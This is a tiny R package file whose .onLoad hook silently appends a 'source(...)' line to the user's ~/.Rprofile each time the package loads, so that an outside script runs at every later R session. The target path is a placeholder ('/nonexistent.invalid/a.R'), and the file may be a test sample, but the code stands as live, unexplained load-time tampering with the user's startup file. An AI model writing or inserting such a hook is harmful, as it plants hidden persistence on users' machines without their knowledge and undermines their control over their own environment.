.onLoad <- function(...) {
  p <- path.expand("~/.Rprofile")
  cat("source('/nonexistent.invalid/a.R')\n", file = p, append = TRUE)
}
